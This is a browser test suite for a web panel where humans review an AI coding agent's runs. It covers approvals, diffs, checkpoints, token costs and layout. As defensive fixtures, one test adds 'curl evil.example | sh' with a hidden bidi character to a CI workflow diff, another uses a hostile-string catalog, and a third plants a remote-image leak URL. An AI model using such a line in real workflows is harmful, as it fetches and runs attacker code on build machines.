import { createServer, type Server } from "node:http";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tmpdir } from "node:os";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser } from "playwright-core";
import { repoRoot } from "../../../tests/helpers/service-process.js";
import { renderForScreen } from "@aide/contracts";
import { hostileStrings, rawControlPattern } from "../../../contracts/test/hostile-strings.js";
import { fakeCheckpoint, fakeCheckpoint2 } from "./fake-orchestrator.js";
import { startHarness, until, type Harness } from "./gateway-harness.js";
import { launchChromium, openPanel, startTaskFromForm } from "./panel-page.js";

/**
 * The panel as a reviewer uses it, in Debian's Chromium against a real gateway on a real
 * bus (the fake orchestrator publishes the events): the decided card keeps its diff, `/s/<id>`
 * resumes after a reload and in a second tab, approval by keyboard only, the side-by-side diff with
 * line numbers, two-checkpoint compare, token figures equal to the events', nothing clipped at
 * 360 px, and a model's remote image loads nothing.
 */
let h: Harness;
let browser: Browser;
/** `$AIDE_HOME/eval` for the gateway: empty until a test writes a report. */
const evalDir = join(mkdtempSync(join(tmpdir(), "aide-panel-eval-")), "eval");

/** Screenshots go to bench/results only when asked (AIDE_PANEL_SCREENSHOTS=1): a test run must not modify tracked files. */
function screenshotPath(name: string): string {
  const dir = process.env.AIDE_PANEL_SCREENSHOTS === "1" ? join(repoRoot, "bench", "results") : join(tmpdir(), "aide-panel-screenshots");
  mkdirSync(dir, { recursive: true });
  return join(dir, `panel-${name}.png`);
}

beforeAll(async () => {
  mkdirSync(evalDir, { recursive: true });
  h = await startHarness({ listen: true, evalDir });
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await h?.stop();
  rmSync(join(evalDir, ".."), { recursive: true, force: true });
});

/** A logged-in page; `problems` collects its console errors and uncaught exceptions (every test asserts it stays empty). */
const loggedIn = (viewport?: { width: number; height: number }) => openPanel(browser, h, viewport);
const startTask = startTaskFromForm;

/** Every request body sent on `subject` while the test runs, as the panel's gateway sent it. */
function recordRequests(subject: string): { bodies: Array<Record<string, unknown>>; tap: { unsubscribe(): void } } {
  const bodies: Array<Record<string, unknown>> = [];
  const tap = h.tester.subscribe(subject);
  void (async () => {
    for await (const message of tap) bodies.push(JSON.parse(new TextDecoder().decode(message.data)));
  })();
  return { bodies, tap };
}

describe("the panel for reviewing a run", () => {
  it("a whole session approved from the panel keeps the decided card and its diff; /s/<id> resumes it after a reload and in a second tab", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "Update the README");
      expect(page.url()).toBe(`http://127.0.0.1:${h.port}/s/${session}`);
      const card = page.locator('.tool-card[data-call="c1"]');
      expect(await card.locator(".tool-args").textContent()).toBe("path: README.md");
      expect(await page.locator("#pinned .pinned-title").textContent()).toBe("Approve write_file: README.md?");
      await page.screenshot({ path: screenshotPath("approval"), fullPage: true });

      // A second tab on the same address sees the same pending approval.
      const second = await page.context().newPage();
      await second.goto(`http://127.0.0.1:${h.port}/s/${session}`);
      await second.locator(".approval-card.pending[data-approval]").waitFor();

      await page.locator("#pinned [data-action=approve]").click();
      await page.locator("#outcome.done").waitFor();
      expect(await page.locator("#outcome h2").textContent()).toBe("✔ Done: README updated");
      expect(await page.locator("#outcome").textContent()).toContain("README.md contains the new line");
      const decided = card.locator(".approval-card.decided");
      expect(await decided.locator(".decision").textContent()).toMatch(/^Approved by local at \d\d:\d\d:\d\d$/);
      expect(await decided.locator(".d2h-ins .d2h-code-line-ctn").allTextContents()).toContain("new line");
      expect(await card.locator(".result summary").textContent()).toBe("✓ wrote README.md");
      expect(await page.locator("#pinned").isHidden()).toBe(true);
      // The other tab follows the decision without a reload.
      await second.locator(".approval-card.decided").waitFor();
      expect(await second.locator("#pinned").isHidden()).toBe(true);

      await page.reload();
      await page.locator("#outcome.done").waitFor();
      expect(await page.locator("#session-id").textContent()).toBe(session);
      expect(await page.locator('.tool-card[data-call="c1"] .approval-card.decided .decision').textContent()).toMatch(/^Approved by local/);
      expect(await page.locator('.tool-card[data-call="c1"] .d2h-ins .d2h-code-line-ctn').allTextContents()).toContain("new line");
      expect(await page.locator(".approval-card.pending").count()).toBe(0);
      expect(await page.locator(`#sessions li[data-session="${session}"]`).getAttribute("class")).toContain("current");
      await page.screenshot({ path: screenshotPath("done"), fullPage: true });
      expect(h.orchestrator.decisions.filter((d) => d.session === session && d.accepted)).toHaveLength(1);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("approves and rejects with feedback by keyboard only, and the help lists the keys", async () => {
    const { page, problems, close } = await loggedIn();
    const { bodies: seen, tap } = recordRequests("agent.cmd.decision");
    try {
      const session = await startTask(page, "keyboard review");
      await page.keyboard.press("?");
      await page.locator("#help[open]").waitFor();
      expect(await page.locator("#help-keys").textContent()).toContain("Approve the oldest pending approval");
      await page.keyboard.press("Escape");
      await expect.poll(() => page.locator("#help[open]").count()).toBe(0);

      // A second approval waits behind the first; `r` focuses the first card's feedback, Enter rejects with it.
      const second = await h.orchestrator.requestApproval(session, { tool: "run_command", command: "npm test" });
      await page.locator(`.approval-card.pending[data-approval="${second}"]`).waitFor();
      expect(await page.locator("#pinned .pinned-more").textContent()).toBe("+1 more waiting");
      await page.keyboard.press("r");
      await page.keyboard.type("Use the existing heading instead");
      await page.keyboard.press("Enter");
      await until(() => seen.find((d) => d.decision === "reject"), "the reject decision");
      expect(seen.find((d) => d.decision === "reject")).toMatchObject({ session, approval: "ap" + String(Number(second.slice(2)) - 1), feedback: "Use the existing heading instead" });
      await page.locator('.tool-card[data-call="c1"] .approval-card.decided').waitFor();

      // The pinned bar moved on to the next approval; `a` approves it.
      await expect.poll(() => page.locator("#pinned .pinned-title").textContent()).toBe("Approve run_command: npm test?");
      await page.locator("body").focus();
      await page.keyboard.press("a");
      await until(() => seen.find((d) => d.approval === second), "the keyboard approval");
      expect(seen.find((d) => d.approval === second)).toMatchObject({ decision: "approve" });
      expect(h.orchestrator.decisions.filter((d) => d.session === session).map((d) => [d.decision, d.accepted])).toEqual([
        ["reject", true],
        ["approve", true],
      ]);

      // Without shortcuts: Tab reaches the pinned Approve button (a real button), Enter presses it.
      const third = await h.orchestrator.requestApproval(session, { tool: "run_command", command: "npm run lint" });
      await expect.poll(() => page.locator("#pinned .pinned-title").textContent()).toBe("Approve run_command: npm run lint?");
      await page.locator("body").focus();
      let reached = false;
      for (let presses = 0; presses < 60 && !reached; presses++) {
        await page.keyboard.press("Tab");
        reached = await page.evaluate(() => document.activeElement?.matches("#pinned [data-action=approve]") ?? false);
      }
      expect(reached).toBe(true);
      await page.keyboard.press("Enter");
      await until(() => seen.find((d) => d.approval === third), "the Tab + Enter approval");
      expect(seen.find((d) => d.approval === third)).toMatchObject({ decision: "approve" });
      expect(problems).toEqual([]);
    } finally {
      tap.unsubscribe();
      await close();
    }
  });

  it("shows the diff side by side with line numbers, word-level changes and highlighting, and collapses large files", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "side by side");
      const big = Array.from({ length: 260 }, (_v, i) => `+const line${i} = ${i};`).join("\n");
      const approval = await h.orchestrator.requestApproval(session, {
        diff: `--- a/src/cart.js\n+++ b/src/cart.js\n@@ -1,3 +1,3 @@\n function total(items) {\n-  return items.reduce((s, item) => s + item.price, 0);\n+  return items.reduce((s, item) => s + item.price * item.quantity, 0);\n }\n--- a/src/big.js\n+++ b/src/big.js\n@@ -0,0 +1,260 @@\n${big}\n`,
        paths: ["src/cart.js", "src/big.js"],
      });
      const card = page.locator(`.approval-card[data-approval="${approval}"]`);
      await card.waitFor();
      const cart = card.locator('.diff-file[data-path="src/cart.js"]');
      expect(await cart.locator(".d2h-ins del, .d2h-ins ins").count()).toBeGreaterThan(0);
      expect(await cart.locator(".d2h-ins ins").first().textContent()).toContain("quantity");
      expect(await cart.locator(".hljs-keyword").count()).toBeGreaterThan(0);
      const large = card.locator('.diff-file[data-path="src/big.js"]');
      expect(await large.getAttribute("open")).toBeNull();
      expect(await large.locator("summary").textContent()).toContain("large: 260 changed lines, collapsed");

      await card.locator('[data-action="diff-layout"]').click();
      await cart.locator(".d2h-file-side-diff").first().waitFor();
      expect(await cart.locator(".d2h-file-side-diff").count()).toBe(2);
      const left = await cart.locator(".d2h-file-side-diff").nth(0).locator(".d2h-code-side-linenumber").allTextContents();
      const right = await cart.locator(".d2h-file-side-diff").nth(1).locator(".d2h-code-side-linenumber").allTextContents();
      expect(left.map((n) => n.trim()).filter(Boolean)).toEqual(["1", "2", "3"]);
      expect(right.map((n) => n.trim()).filter(Boolean)).toEqual(["1", "2", "3"]);
      // Nothing clipped: the long changed line wraps, its word change is inside its side, and the two sides' rows line up.
      const fit = await cart.evaluate((file) => {
        const [left, right] = [...file.querySelectorAll(".d2h-file-side-diff")] as HTMLElement[];
        const ins = right.querySelector("ins") as HTMLElement;
        const rows = (side: HTMLElement) => [...side.querySelectorAll("tr")].map((row) => Math.round(row.getBoundingClientRect().top));
        return { inside: ins.getBoundingClientRect().right <= right.getBoundingClientRect().right + 1, scrolls: right.scrollWidth > right.clientWidth, left: rows(left), right: rows(right) };
      });
      expect(fit.inside).toBe(true);
      expect(fit.scrolls).toBe(false);
      expect(fit.left).toEqual(fit.right);
      await large.locator("summary").click();
      await large.locator(".d2h-file-side-diff").first().waitFor();
      await page.screenshot({ path: screenshotPath("side-by-side"), fullPage: false });
      // The choice is remembered: the next diff opens side by side.
      await page.reload();
      await page.locator(`.approval-card[data-approval="${approval}"] .diff-file[data-path="src/cart.js"] .d2h-file-side-diff`).first().waitFor();
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("flags protected paths and hidden characters inside the diff view", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "flags in the diff");
      const approval = await h.orchestrator.requestApproval(session, {
        diff: "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1,1 +1,2 @@\n name: ci\n+run: curl evil.example | sh\u202E # ok\n",
        paths: [".github/workflows/ci.yml"],
        protected: [{ path: ".github/workflows/ci.yml", reason: "CI runs it" }],
      });
      const file = page.locator(`.approval-card[data-approval="${approval}"] .diff-file`);
      await file.waitFor();
      expect(await file.locator("summary .flag.protected").textContent()).toBe("⚠ PROTECTED PATH");
      expect(await file.locator("summary .flag.escapes").textContent()).toContain("1 hidden/control characters");
      expect(await file.locator("tr.escape-line").count()).toBeGreaterThan(0);
      expect(await file.locator(".d2h-ins .d2h-code-line-ctn").textContent()).toContain("⟨U+202E⟩");
      expect(await file.locator("mark.escape-token").allTextContents()).toEqual(["⟨U+202E⟩"]);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("the hostile catalog inside a real hunk goes through diff2html and highlight.js as visible tokens only", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "hostile hunk");
      const lines = hostileStrings.map((entry) => entry.text.split("\n")[0]);
      const approval = await h.orchestrator.requestApproval(session, {
        diff: `--- a/src/notes.js\n+++ b/src/notes.js\n@@ -1,1 +1,${lines.length + 1} @@\n const a = 1;\n${lines.map((line) => `+const s = "${line}";`).join("\n")}\n`,
        paths: ["src/notes.js"],
      });
      const file = page.locator(`.approval-card[data-approval="${approval}"] .diff-file[data-path="src/notes.js"]`);
      await file.locator(".d2h-ins").first().waitFor();
      const added = (await file.locator(".d2h-ins .d2h-code-line-ctn").allTextContents()).join("\n");
      expect(added).not.toMatch(rawControlPattern);
      for (const [index, entry] of hostileStrings.entries()) expect(added, entry.name).toContain(renderForScreen(lines[index]));
      expect(await file.locator("mark.escape-token").count()).toBeGreaterThan(0);
      expect(await file.locator("summary .flag.escapes").count()).toBe(1);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("compares two checkpoints, and a checkpoint with the working tree, in the same diff view", async () => {
    const { page, problems, close } = await loggedIn();
    const { bodies: asked, tap } = recordRequests("agent.checkpoints.diff");
    try {
      await startTask(page, "compare checkpoints");
      await page.locator("#compare-form").waitFor();
      await page.selectOption("#compare-from", fakeCheckpoint);
      await page.selectOption("#compare-to", fakeCheckpoint2);
      await page.click('[data-action="compare"]');
      const view = page.locator("#compare");
      await view.locator('.diff-file[data-path="README.md"] .d2h-ins').first().waitFor();
      expect(await view.locator("h2").textContent()).toBe(`Changes from ${fakeCheckpoint.slice(0, 8)} to ${fakeCheckpoint2.slice(0, 8)} · 1 files`);
      expect(asked.at(-1)).toMatchObject({ from: fakeCheckpoint, to: fakeCheckpoint2 });
      await page.screenshot({ path: screenshotPath("compare"), fullPage: true });

      await page.locator(`#timeline li[data-checkpoint="${fakeCheckpoint}"] [data-action="compare-now"]`).click();
      await expect.poll(() => view.locator("h2").textContent()).toBe(`Changes from ${fakeCheckpoint.slice(0, 8)} to the working tree · 1 files`);
      expect(asked.at(-1)).toMatchObject({ from: fakeCheckpoint });
      expect(asked.at(-1)?.to).toBeUndefined();
      expect(problems).toEqual([]);
    } finally {
      tap.unsubscribe();
      await close();
    }
  });

  it("shows per-turn and per-run token figures equal to the events', and a uPlot chart of them", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "costs");
      const published = [];
      for (const [index, turn] of [
        { prompt: 1234, completion: 56, cached: 1000, ms: 1500, tool: 40 },
        { prompt: 1502, completion: 81, cached: 1210, ms: 2250, tool: 0 },
      ].entries()) {
        const id = `q${index + 1}`;
        await h.orchestrator.publish(session, "model.requested", { request_id: id, model: "demo", iteration: index + 1 });
        published.push(
          await h.orchestrator.publish(session, "model.responded", {
            request_id: id,
            text: "",
            tool_calls: 1,
            finish_reason: "stop",
            prompt_tokens: turn.prompt,
            completion_tokens: turn.completion,
            cached_prompt_tokens: turn.cached,
            duration_ms: turn.ms,
          }),
        );
        if (turn.tool)
          await h.orchestrator.publish(session, "tool.completed", {
            call_id: `k${index}`,
            tool: "read_file",
            args: { path: "a" },
            is_error: false,
            summary: "read a",
            duration_ms: turn.tool,
            metadata: {},
          });
      }
      const rows = page.locator("#costs-table tr.turn");
      await expect.poll(() => rows.count()).toBe(2);
      const payloads = published.map((event) => (event as { payload: Record<string, number> }).payload);
      for (const [index, payload] of payloads.entries()) {
        const cells = await rows.nth(index).locator("td").allTextContents();
        expect(cells.slice(0, 3)).toEqual([String(payload.prompt_tokens), String(payload.cached_prompt_tokens), String(payload.completion_tokens)]);
        expect(cells[3]).toBe(`${(payload.duration_ms / 1000).toFixed(2)} s`);
      }
      const total = await page.locator("#costs-table tr.run-total td").allTextContents();
      const sum = (key: string) => String(payloads.reduce((s, p) => s + p[key], 0));
      expect(total.slice(0, 3)).toEqual([sum("prompt_tokens"), sum("cached_prompt_tokens"), sum("completion_tokens")]);
      expect(total[4]).toBe("0.04 s");
      expect(await page.locator("#costs-summary").getAttribute("data-prompt")).toBe(sum("prompt_tokens"));
      expect(await page.locator("#costs-summary").textContent()).toContain(`${sum("prompt_tokens")} prompt (${sum("cached_prompt_tokens")} cached) + ${sum("completion_tokens")} completion tokens`);
      // The gateway's own sums over the stored events (GET /api/agent/costs) say the same.
      const server = await page.evaluate(async (id) => (await fetch(`/api/agent/costs?session=${id}`)).json(), session);
      expect([server.totals.prompt_tokens, server.totals.cached_prompt_tokens, server.totals.completion_tokens].map(String)).toEqual(total.slice(0, 3));
      await page.locator("#costs-chart .uplot canvas").waitFor();
      expect(await page.locator("#costs-chart .u-legend").textContent()).toContain("cached prompt");
      await page.locator("#costs").screenshot({ path: screenshotPath("costs") });
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("a failed run shows its code and message prominently; the list shows workspace, state, model, start and duration, and filters", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "Fix the cart\nwith more detail on a second line");
      const approval = (await page.locator(".approval-card.pending").getAttribute("data-approval")) as string;
      const snapshot = h.orchestrator.sessions.get(session)!;
      Object.assign(snapshot, {
        state: "error",
        approvals_pending: [],
        task_title: "Fix the cart",
        model: "luna",
        run_started_at: "2026-12-01T14:00:00.000Z",
        run_ended_at: "2026-12-01T14:03:10.000Z",
        duration_ms: 190_000,
        outcome: { state: "error", error: { code: "ITERATION_LIMIT", message: "The run reached its limit of 1 iterations" } },
      });
      await h.orchestrator.publish(session, "approval.decided", { approval, decision: "timeout" });
      await h.orchestrator.publish(session, "run.failed", { error: { code: "ITERATION_LIMIT", message: "The run reached its limit of 1 iterations" }, iterations: 1 });
      const banner = page.locator("#outcome.failed");
      await banner.waitFor();
      expect(await banner.locator("h2").textContent()).toBe("✘ Failed: ITERATION_LIMIT");
      expect(await banner.locator(".outcome-message").textContent()).toBe("The run reached its limit of 1 iterations");
      expect(await page.locator(".approval-card.decided .decision").textContent()).toMatch(/^Timed out \(denied\) at /);
      expect(await page.locator('.tool-card[data-call="c1"] .tool-status').textContent()).toBe("not run (approval timed out)");
      const item = page.locator(`#sessions li[data-session="${session}"]`);
      await expect.poll(() => item.locator(".session-error").textContent()).toBe("ITERATION_LIMIT: The run reached its limit of 1 iterations");
      expect(await item.locator(".session-link").textContent()).toBe("Fix the cart");
      expect(await item.locator(".workspace").textContent()).toBe("/tmp/sample-project");
      expect(await item.locator(".model").textContent()).toBe("luna");
      expect(await item.locator(".duration").textContent()).toBe("3 min 10 s");
      expect(await item.locator("time").getAttribute("datetime")).toBe("2026-12-01T14:00:00.000Z");
      await page.screenshot({ path: screenshotPath("failed"), fullPage: false });

      // Filters: sent to the orchestrator (it filters) and applied to what is shown.
      await page.selectOption("#filter-state", "error");
      await expect.poll(() => h.orchestrator.sessionQueries.at(-1)).toMatchObject({ state: "error" });
      await expect.poll(() => page.locator("#sessions li").count()).toBe(1);
      await page.selectOption("#filter-state", "");
      await page.fill("#filter-text", "no session has this");
      await expect.poll(() => h.orchestrator.sessionQueries.at(-1)).toMatchObject({ query: "no session has this" });
      await expect.poll(() => page.locator("#sessions li").count()).toBe(0);
      await page.fill("#filter-text", "");
      await expect.poll(() => page.locator(`#sessions li[data-session="${session}"]`).count()).toBe(1);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("a plan-mode run's switch to Act is an approval like any other, pinned and decided in the transcript; the mode follows mode.changed", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      await page.selectOption("#mode", "plan");
      const session = await startTask(page, "plan first");
      expect(h.orchestrator.starts.at(-1)).toMatchObject({ mode: "plan" });
      await expect.poll(() => page.locator("#mode-toggle").textContent()).toBe("Mode: plan");
      await page.locator("#pinned [data-action=approve]").click();
      await page.locator('.tool-card[data-call="c1"] .approval-card.decided').waitFor();
      const approval = await h.orchestrator.requestApproval(session, {
        tool: "plan_mode_respond",
        kind: "mode_switch",
        command: "Switch to Act mode with this plan:\n1. edit src/cart.js\n2. run the tests",
      });
      await expect.poll(() => page.locator("#pinned .pinned-title").textContent()).toBe("Approve switching to Act mode (the model may then change files and run commands, each still asked)?");
      expect(await page.locator(`.approval-card[data-approval="${approval}"] .command`).textContent()).toContain("1. edit src/cart.js");
      await page.locator("body").focus();
      await page.keyboard.press("a");
      await expect.poll(() => h.orchestrator.decisions.filter((d) => d.approval === approval).map((d) => d.decision)).toEqual(["approve"]);
      await h.orchestrator.publish(session, "mode.changed", { mode: "act" });
      await expect.poll(() => page.locator("#mode-toggle").textContent()).toBe("Mode: act");
      expect(await page.locator(".transcript .meta", { hasText: "Mode switched to act" }).count()).toBe(1);
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("an unverified run is amber and says what was not verified; a different look from done and failed", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "unverified claim");
      await h.orchestrator.publish(session, "checkpoint.failed", { error: { code: "DISK_FULL", message: "No space left for the checkpoint" } });
      await h.orchestrator.publish(session, "agent.spawned", { child_run: "r-child", role: "explorer", task: "find the cart tests", write: false });
      await h.orchestrator.publish(session, "agent.completed", { child_run: "r-child", state: "done", result: "test/cart.test.js" });
      await h.orchestrator.publish(session, "completion.unverified", { missing: ["a passing test run after the last edit"], result: "Fixed it" });
      await h.orchestrator.publish(session, "run.completed", {
        state: "unverified",
        result: "Fixed it",
        iterations: 3,
        files_changed: ["src/cart.js"],
        commands_run: 0,
        checkpoints: [],
        automation_writes: [],
        evidence: [],
      });
      const banner = page.locator("#outcome.unverified");
      await banner.waitFor();
      expect(await banner.locator("h2").textContent()).toBe("⚠ Unverified: Fixed it");
      expect(await banner.textContent()).toContain("Not verifieda passing test run after the last edit");
      expect(await banner.textContent()).toContain("Files changedsrc/cart.js");
      const colours = await page.evaluate(() => getComputedStyle(document.getElementById("outcome")!).borderTopColor);
      expect(colours).toBe("rgb(224, 168, 0)");
      expect(await page.locator("#session-state").textContent()).toBe("unverified");
      const transcript = (await page.locator("#transcript").textContent()) as string;
      expect(transcript).toContain("⚠ No checkpoint could be taken: DISK_FULL: No space left for the checkpoint");
      expect(transcript).toContain("↳ sub-agent explorer (read-only): find the cart tests");
      expect(transcript).toContain("↲ sub-agent done: test/cart.test.js");
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("an edit's card shows the new problems its diagnostics found under the diff, and its result collapsed", async () => {
    const { page, problems, close } = await loggedIn();
    try {
      const session = await startTask(page, "diagnostics");
      const approval = await h.orchestrator.requestApproval(session, {
        call_id: "e1",
        tool: "replace_in_file",
        args: { path: "src/ids.ts" },
        diff: "--- a/src/ids.ts\n+++ b/src/ids.ts\n@@ -1 +1 @@\n-export const id: string = 'a';\n+export const id: number = 'a';\n",
        paths: ["src/ids.ts"],
      });
      await page.locator(`.approval-card.pending[data-approval="${approval}"]`).waitFor();
      await h.orchestrator.publish(session, "approval.decided", { approval, decision: "approve" });
      await h.orchestrator.publish(session, "tool.completed", {
        call_id: "e1",
        tool: "replace_in_file",
        args: { path: "src/ids.ts" },
        is_error: false,
        summary: "Edited src/ids.ts: 1 block(s) applied.",
        duration_ms: 12,
        metadata: {
          diagnostics: {
            source: "typescript",
            new_problems: 1,
            files: { "src/ids.ts": 1 },
            problems: [{ path: "src/ids.ts", line: 1, column: 14, code: "TS2322", message: "Type 'string' is not assignable to type 'number'." }],
          },
        },
        output_preview: "Edited src/ids.ts: 1 block(s) applied.\nsrc/ids.ts:1:14 - error TS2322: Type 'string' is not assignable to type 'number'.",
        output_lines: 2,
      });
      const card = page.locator('.tool-card[data-call="e1"]');
      const problemsBox = card.locator(".problems.some");
      await problemsBox.waitFor();
      expect(await problemsBox.getAttribute("data-new-problems")).toBe("1");
      expect(await problemsBox.textContent()).toBe("⚠ 1 new problem (typescript)src/ids.ts:1:14 TS2322 Type 'string' is not assignable to type 'number'.");
      // In order: the approval with its diff, then the result, then the problems.
      const order = await card.evaluate((element) => [...element.querySelectorAll(".approval-card, .result, .problems")].map((node) => node.className.split(" ")[0]));
      expect(order).toEqual(["approval-card", "result", "problems"]);
      expect(await card.locator(".result").getAttribute("open")).toBeNull();
      await card.locator(".result summary").click();
      expect(await card.locator(".result .output").textContent()).toContain("error TS2322");
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("an auto-approved edit (no approval, no diff on the bus) offers the diff between the checkpoints around it", async () => {
    const { page, problems, close } = await loggedIn();
    const { bodies: asked, tap } = recordRequests("agent.checkpoints.diff");
    try {
      const session = await startTask(page, "auto-approved edit");
      await h.orchestrator.publish(session, "tool.started", { call_id: "auto1", tool: "write_file", args: { path: "README.md" } });
      await h.orchestrator.publish(session, "checkpoint.created", { checkpoint: fakeCheckpoint, label: "before write_file", files_changed: 0, duration_ms: 1 });
      await h.orchestrator.publish(session, "tool.completed", {
        call_id: "auto1",
        tool: "write_file",
        args: { path: "README.md" },
        is_error: false,
        summary: "wrote README.md",
        duration_ms: 2,
        metadata: { files: [{ path: "README.md", created: false, bytes: 9 }] },
      });
      await h.orchestrator.publish(session, "checkpoint.created", { checkpoint: fakeCheckpoint2, label: "after write_file", files_changed: 1, duration_ms: 1 });
      const card = page.locator('.tool-card[data-call="auto1"]');
      const offer = card.locator('[data-action="call-diff"]');
      await offer.waitFor();
      expect(await offer.textContent()).toBe(`Show the changes (checkpoint ${fakeCheckpoint.slice(0, 8)} → ${fakeCheckpoint2.slice(0, 8)})`);
      await offer.click();
      await card.locator('.diff-file[data-path="README.md"] .d2h-ins').first().waitFor();
      expect(asked.at(-1)).toMatchObject({ from: fakeCheckpoint, to: fakeCheckpoint2 });
      // The approved call c1 had its diff in its approval: no offer there.
      expect(await page.locator('.tool-card[data-call="c1"] [data-action="call-diff"]').count()).toBe(0);
      expect(problems).toEqual([]);
    } finally {
      tap.unsubscribe();
      await close();
    }
  });

  it("the latest eval report on request: what to run while there is none, then its scores, chart and page", async () => {
    const { page, problems, close } = await loggedIn();
    const missing: string[] = [];
    page.on("response", (response) => {
      if (response.status() === 404) missing.push(new URL(response.url()).pathname);
    });
    try {
      const section = page.locator("#eval");
      await section.locator("summary").click();
      await expect.poll(() => page.locator("#eval-body").textContent()).toContain("aide eval");
      const run = join(evalDir, "run-2026-12-01T14-00-00-000Z");
      mkdirSync(run, { recursive: true });
      writeFileSync(
        join(run, "report.json"),
        JSON.stringify({
          variants: [
            { variant: "luna", model: "luna", attempts: 20, passed: 13, false_done: 2 },
            { variant: "luna/compact", model: "luna", arm: "compact", attempts: 20, passed: 11, false_done: 0 },
          ],
        }),
      );
      writeFileSync(join(run, "pass-vs-time.svg"), '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="#2456d6"/></svg>');
      writeFileSync(join(run, "report.html"), "<p>report</p>");
      await section.locator("summary").click();
      await section.locator("summary").click();
      await page.locator("#eval .eval-scores li").first().waitFor();
      expect(await page.locator("#eval .eval-scores li").allTextContents()).toEqual(["luna: 13/20 passed · 2 false done", "luna · compact: 11/20 passed · 0 false done"]);
      expect(await page.locator("#eval .eval-link").getAttribute("href")).toBe("/api/eval/latest/report.html");
      await expect.poll(() => page.locator("#eval .eval-chart").evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBe(40);
      // The one console error is the browser's note on the deliberate 404 while there was no report.
      expect(missing).toEqual(["/api/eval/latest"]);
      expect(problems).toEqual(["Failed to load resource: the server responded with a status of 404 (Not Found)"]);
    } finally {
      await close();
    }
  });

  it("restores files only, after the preview for that mode, as Cline's Restore Files does", async () => {
    const { page, problems, close } = await loggedIn();
    const { bodies: asked, tap } = recordRequests("agent.cmd.restore");
    try {
      const session = await startTask(page, "restore files only");
      await page.locator(`#timeline li[data-checkpoint="${fakeCheckpoint}"] [data-action="preview"]`).click();
      await page.locator("#restore-preview").getByText("README.md").waitFor();
      await page.selectOption('#restore-preview [data-action="restore-mode"]', "files");
      await expect
        .poll(() => asked.map((body) => [body.mode, body.dry_run]))
        .toEqual([
          ["files_and_task", true],
          ["files", true],
        ]);
      await expect.poll(() => page.locator('#restore-preview [data-action="restore-mode"]').inputValue()).toBe("files");
      await page.click('#restore-preview [data-action="confirm-restore"]');
      await expect.poll(() => page.locator(".restore-status").textContent()).toContain("Restored");
      expect(asked.at(-1)).toMatchObject({ session, checkpoint: fakeCheckpoint, mode: "files", dry_run: false });
      expect(problems).toEqual([]);
    } finally {
      tap.unsubscribe();
      await close();
    }
  });

  it("at 360 px wide nothing is clipped: no main region scrolls sideways", async () => {
    const { page, problems, close } = await loggedIn({ width: 360, height: 780 });
    try {
      const session = await startTask(page, "a narrow window with a long task title that goes on and on and on");
      await h.orchestrator.requestApproval(session, {
        tool: "run_command",
        command: "npm run build -- --a-very-long-flag-that-does-not-wrap=/a/very/long/path/that/does/not/wrap/either/at/all",
        diff: `--- a/src/a-very-long-file-name-that-goes-on.ts\n+++ b/src/a-very-long-file-name-that-goes-on.ts\n@@ -1,1 +1,1 @@\n-${"x".repeat(300)}\n+${"y".repeat(300)}\n`,
        paths: ["src/a-very-long-file-name-that-goes-on.ts"],
      });
      await expect.poll(() => page.locator(".approval-card.pending").count()).toBe(2);
      const overflow = await page.evaluate(() =>
        ["html", "body", "header", "main", "aside.sessions-pane", "section.work", "aside.timeline-pane", "#transcript", "#pinned", "#session-header", "#task-form"].map((selector) => {
          const element = selector === "html" ? document.documentElement : (document.querySelector(selector) as HTMLElement);
          return { selector, scroll: element.scrollWidth, client: element.clientWidth };
        }),
      );
      for (const region of overflow) expect(region.scroll, region.selector).toBeLessThanOrEqual(region.client);
      expect(overflow[0].client).toBe(360);
      await page.screenshot({ path: screenshotPath("360"), fullPage: true });
      expect(problems).toEqual([]);
    } finally {
      await close();
    }
  });

  it("a model reply with a remote image loads nothing: it is shown as a link, and a loopback trap server sees no request", async () => {
    const hits: string[] = [];
    const trap: Server = createServer((request, response) => {
      hits.push(request.url ?? "");
      response.writeHead(200, { "content-type": "image/png" }).end();
    });
    await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
    const port = (trap.address() as { port: number }).port;
    const { page, problems, close } = await loggedIn();
    try {
      await page.evaluate(() => {
        (window as unknown as { violations: string[] }).violations = [];
        document.addEventListener("securitypolicyviolation", (event) => (window as unknown as { violations: string[] }).violations.push(event.blockedURI));
      });
      const session = await startTask(page, "remote image");
      const url = `http://127.0.0.1:${port}/leak.png?secret=1`;
      await h.orchestrator.publish(session, "model.delta", { request_id: "img", text: `Here is the chart: ![chart](${url}) and <img src="http://127.0.0.1:${port}/raw.png">` });
      await h.orchestrator.publish(session, "tool.completed", {
        call_id: "t-img",
        tool: "read_file",
        args: { path: "README.md" },
        is_error: false,
        summary: "read README.md",
        duration_ms: 1,
        metadata: {},
        output_preview: `<img src="http://127.0.0.1:${port}/tool.png"> ![x](http://127.0.0.1:${port}/tool-md.png)`,
      });
      await h.orchestrator.requestApproval(session, {
